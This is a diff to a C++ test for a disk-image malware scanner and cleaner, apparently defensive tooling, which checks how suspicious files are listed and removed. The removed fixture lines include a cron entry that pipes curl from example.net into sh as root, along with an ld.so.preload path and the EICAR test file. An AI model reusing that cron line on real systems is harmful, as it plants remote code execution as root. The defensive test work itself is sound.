@@ -248,14 +248,8 @@ TEST(Clean, WhatIsOnlySuspiciousIsListedAndRemovedOnDemand) {
     const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
     const auto found = scan_image(with_clamd(overlay.arguments));
     ASSERT_EQ(found.verdict.hits.size(), 1U);
-    Json verdict = Json::parse(agent::verdict_json(found.verdict));
-    const auto suspicion = [](const std::string& path, const std::string& content) {
-        return Json{{"path", path},           {"volume", "disk"},     {"rule", "cron_dropper"}, {"reason", "a job fetches what it runs"},
-                    {"sha256", content.empty() ? content : sha256_hex(content)}, {"score", 7}};
-    };
-    verdict["suspicious"] = {suspicion("/etc/cron.d/update", "* * * * * root curl http://example.net | sh\n"), suspicion("/etc/ld.so.preload", ""),
-                             suspicion("/eicar.com", eicar())};
-    const std::string report = verdict.dump() + "\n";
+    ASSERT_EQ(found.verdict.suspicious.size(), 2U) << found.out;
+    const std::string& report = found.out;
     using Actions = std::map<std::string, std::string>;
     const auto listed = clean_image(dry(overlay), report);
     EXPECT_EQ(listed.exit, 0) << listed.out << listed.err;
@@ -263,24 +257,24 @@ TEST(Clean, WhatIsOnlySuspiciousIsListedAndRemovedOnDemand) {
     const auto run = clean_image(keeping(shop, overlay), report);
     EXPECT_EQ(run.exit, 0) << run.out << run.err;
     EXPECT_EQ(run.actions, (Actions{{"disk /eicar.com", "removed"}, {"disk /etc/cron.d/update", "listed"}, {"disk /etc/ld.so.preload", "listed"}}));
-    EXPECT_NE(run.out.find("a job fetches what it runs"), std::string::npos);
+    EXPECT_NE(run.out.find(name(agent::SuspicionRule::cron_download)), std::string::npos) << run.out;
     EXPECT_NE(run.out.find("\"listed\":2"), std::string::npos) << run.out;
     const auto lines = changes(shop, 1);
     ASSERT_EQ(lines.size(), 6U);
-    EXPECT_EQ(lines[3]["action"], "listed");
-    EXPECT_EQ(lines[3]["rule"], "cron_dropper");
+    for (const size_t i : {3U, 4U}) {
+        EXPECT_EQ(lines[i]["step"], "note");
+        EXPECT_EQ(lines[i]["action"], "listed");
+        EXPECT_NE(lines[i]["reason"], "");
+    }
     EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).verdict.files, 2U) << "both are still there";
 
     auto arguments = keeping(shop, overlay);
     arguments.insert(arguments.begin(), "--remove-suspicious");
     const auto removed = clean_image(arguments, report);
-    EXPECT_EQ(removed.exit, 3) << removed.out;
-    EXPECT_EQ(removed.actions, (Actions{{"disk /eicar.com", "absent"}, {"disk /etc/cron.d/update", "removed"}, {"disk /etc/ld.so.preload", "failed"}}))
-        << "without a hash nobody knows which content was meant";
-    EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).verdict.files, 1U);
+    EXPECT_EQ(removed.exit, 0) << removed.out << removed.err;
+    EXPECT_EQ(removed.actions, (Actions{{"disk /eicar.com", "absent"}, {"disk /etc/cron.d/update", "removed"}, {"disk /etc/ld.so.preload", "removed"}}));
+    EXPECT_TRUE(scan_image(with_clamd(overlay.arguments)).verdict.suspicious.empty());
     Workshop::run({"e2fsck", "-fn", flattened(shop, overlay)});
-    verdict["suspicious"][0]["sha256"] = "short";
-    EXPECT_EQ(clean_image(dry(overlay), verdict.dump()).exit, 2);
 }
 
 TEST(Clean, PeopleGetATableWithoutColoursInAFile) {
